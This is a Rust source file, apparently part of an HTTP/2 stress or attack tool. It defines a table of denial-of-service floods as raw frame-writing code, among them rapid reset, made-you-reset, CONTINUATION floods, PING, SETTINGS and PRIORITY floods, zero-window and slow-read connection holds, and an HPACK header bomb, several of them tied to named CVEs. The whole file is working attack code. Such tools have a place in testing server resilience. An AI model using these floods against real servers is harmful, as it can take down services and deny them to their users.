//! The floods, one entry each.

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PRIORITY, PRIORITY_UPDATE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, put, stream_of,
};

/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2).
pub(super) const INITIAL_WINDOW: u16 = 4;
const WINDOW_MAX: u32 = (1 << 31) - 1;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// A way to keep a server busy with nothing.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Connections at a time.
    pub(super) connections: usize,
    /// SETTINGS_INITIAL_WINDOW_SIZE that is announced for answers.
    pub(super) window: u32,
    pub(super) script: Script,
}

/// The part of a connection behind the greeting.
pub(super) enum Script {
    /// Writes step after step as fast as the server takes them, and discards its answers.
    Pour(fn(step: u32, out: &mut Vec<u8>)),
    /// The same, without reading.
    PourUnread(fn(step: u32, out: &mut Vec<u8>)),
    /// Sends this once and reads this number of bytes twenty times a second.
    Hold(fn(out: &mut Vec<u8>), usize),
}

const FEW: usize = 4;
/// At first each of these fills the kernel's buffers with megabytes, as any download does, and
/// takes its turn for that.
const SOME: usize = 32;
const MANY: usize = 128;

const fn pour(name: &'static str, step: fn(u32, &mut Vec<u8>)) -> Attack {
    Attack { name, connections: FEW, window: WINDOW_MAX, script: Script::Pour(step) }
}

pub(super) const ATTACKS: &[Attack] = &[
    // CVE-2023-44487.
    pour("rapid reset", |step, out| {
        let stream = stream_of(step);
        put(out, HEADERS, END_HEADERS | END_STREAM, stream, GET);
        put(out, RST_STREAM, 0, stream, &CANCEL);
    }),
    // CVE-2025-8671: valid requests, and then a mistake for which the server has to reset them.
    pour("made to reset", |step, out| {
        let stream = stream_of(step);
        put(out, HEADERS, END_HEADERS | END_STREAM, stream, GET);
        put(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
    }),
    pour("malformed requests", |step, out| {
        // An upper-case name (RFC 9113 §8.2.1).
        put(out, HEADERS, END_HEADERS | END_STREAM, stream_of(step), &[GET, b"\0\x01A\x01a"].concat());
    }),
    // CVE-2024-27316.
    pour("CONTINUATION", |step, out| match step {
        0 => put(out, HEADERS, END_STREAM, 1, GET),
        _ => put(out, CONTINUATION, 0, 1, b"\0\x01a\x01a"),
    }),
    pour("empty CONTINUATION", |step, out| match step {
        0 => put(out, HEADERS, END_STREAM, 1, GET),
        _ => put(out, CONTINUATION, 0, 1, b""),
    }),
    // CVE-2019-9518.
    pour("empty DATA", |step, out| match step {
        0 => put(out, HEADERS, END_HEADERS, 1, POST),
        _ => put(out, DATA, 0, 1, b""),
    }),
    // CVE-2019-9512.
    pour("PING", |step, out| put(out, PING, 0, 0, &u64::from(step).to_be_bytes())),
    Attack {
        name: "PING, nothing read",
        connections: FEW,
        window: WINDOW_MAX,
        script: Script::PourUnread(|step, out| put(out, PING, 0, 0, &u64::from(step).to_be_bytes())),
    },
    // CVE-2019-9515.
    pour("SETTINGS", |_, out| put(out, SETTINGS, 0, 0, b"")),
    // CVE-2019-9513.
    pour("PRIORITY", |step, out| put(out, PRIORITY, 0, stream_of(step % 128), &[0, 0, 0, 0, 1])),
    pour("PRIORITY_UPDATE", |step, out| {
        let stream = stream_of(step % 128).to_be_bytes();
        put(out, PRIORITY_UPDATE, 0, 0, &[&stream[..], b"u=1"].concat());
    }),
    // CVE-2019-9511, CVE-2019-9517: content in frames of one byte.
    Attack {
        name: "windows, a byte at a time",
        connections: FEW,
        window: 0,
        script: Script::Pour(|step, out| match step {
            0 => (0..50).for_each(|at| put(out, HEADERS, END_HEADERS | END_STREAM, stream_of(at), LARGE)),
            _ => put(out, WINDOW_UPDATE, 0, stream_of(step % 50), &1_u32.to_be_bytes()),
        }),
    },
    pour("windows of ended streams", |step, out| match step {
        0 => put(out, HEADERS, END_HEADERS | END_STREAM, 1, GET),
        _ => put(out, WINDOW_UPDATE, 0, 1, &65_536_u32.to_be_bytes()),
    }),
    Attack { name: "closed windows", connections: MANY, window: 0, script: Script::Hold(hundred, 4096) },
    Attack {
        name: "slow reading",
        connections: SOME,
        window: WINDOW_MAX,
        script: Script::Hold(hundred, 512),
    },
    // An entry of the dynamic table, inserted once, then named by one byte each time.
    pour("header bomb", |step, out| {
        let mut block = GET.to_vec();
        if step == 0 {
            block.extend(b"\x40\x01x\x7f\xa1\x1e");
            block.resize(block.len() + 4000, b'x');
        }
        // As many references as are allowed, repeatedly; at last all that a block can hold.
        block.resize(block.len() + if step % 64 < 63 { 2 } else { 12_000 }, 0xbe);
        put(out, HEADERS, END_HEADERS | END_STREAM, stream_of(step), &block);
    }),
    pour("unknown frames", |_, out| put(out, 0x55, 0, 0, b"")),
    pour("streams above the limit", |step, out| put(out, HEADERS, END_HEADERS, stream_of(step), POST)),
];

/// `GET` of a file that takes its time.
const LARGE: &[u8] = b"\x82\x87\x04\x0a/large.bin\x41\x01a";

fn hundred(out: &mut Vec<u8>) {
    (0..100).for_each(|at| put(out, HEADERS, END_HEADERS | END_STREAM, stream_of(at), LARGE));
}
